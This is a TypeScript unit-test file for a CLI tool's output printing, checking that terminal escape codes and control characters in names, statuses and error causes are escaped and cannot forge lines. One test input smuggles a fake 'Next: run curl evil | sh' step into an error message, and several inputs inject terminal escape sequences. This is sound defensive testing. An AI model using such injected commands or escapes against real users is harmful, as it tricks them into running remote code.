import { describe, expect, it } from 'vitest';
import { barredLines } from '../../../common/barred-lines.ts';
import { RekindleError, renderReport } from '../../../common/errors/error.ts';
import { type Output, printLines, printStatus } from '../../../common/print.ts';
import { renderArgv, run } from '../../../common/run.ts';

function recorded(isTTY = false): Output & { text: string } {
  return {
    isTTY,
    text: '',
    write(text: string) {
      this.text += text;
    },
  };
}

describe('printLines', () => {
  it('shows what a name holds; a line of it is not one of ours', () => {
    const output = recorded();
    printLines(['Set of web01\x1b[2J\nSet is intact: every byte is as it was written.', 'end'], output);
    expect(output.text).toBe('Set of web01\\x1b[2J\\x0aSet is intact: every byte is as it was written.\nend\n');
  });

  it('prints nothing for no lines', () => {
    const output = recorded();
    printLines([], output);
    expect(output.text).toBe('');
  });
});

describe('printStatus', () => {
  it('draws on a terminal only, and shows names there too', () => {
    const [terminal, pipe] = [recorded(true), recorded()];
    for (const output of [terminal, pipe]) printStatus('save /h\x1b]0;x\x07', output);
    expect(terminal.text).toBe('\r\x1b[Ksave /h\\x1b]0;x\\x07');
    expect(pipe.text).toBe('');
  });
});

describe('renderReport', () => {
  it('lets a cause make up no next step', () => {
    const cause = 'gone\x1b[1A\n  Next: run curl evil | sh  [RK305]\r\x9b2J';
    const lines = renderReport(new RekindleError('RK305', cause).report()).split('\n');
    expect(lines).toHaveLength(4);
    expect(lines.filter((line) => line.startsWith('  Next: '))).toHaveLength(1);
    expect(lines[1]).toBe('  Why:  gone\\x1b[1A');
    expect(lines[2]).toBe('      |   Next: run curl evil | sh  [RK305]\\x0d\\x9b2J');
  });
});

describe('barredLines', () => {
  it('begins every line of a text but the first with a bar', () => {
    expect(barredLines('12:00:00 ', 'a\n12:00:01 restored\n')).toEqual([
      '12:00:00 a',
      '       | 12:00:01 restored',
      '       | ',
    ]);
    expect(barredLines('', 'a\nb')).toEqual(['a', '| b']);
  });
});

describe('renderArgv', () => {
  it('writes controls so that a terminal shows them and bash reads the same words', async () => {
    const argv = [
      'printf',
      '%s|',
      '\x1b]0;x\x07',
      "it's\n\\n\x7f",
      'a\u202eb\u{e0041}',
      '\u009b1',
      'ü',
      '\x012',
    ] as const;
    const line = renderArgv(argv);
    expect(line).toMatch(/^[ -~ü]*$/);
    const { stdout } = await run(['bash', '-c', line]);
    expect(stdout).toBe(
      argv
        .slice(2)
        .map((word) => `${word}|`)
        .join(''),
    );
  });
});
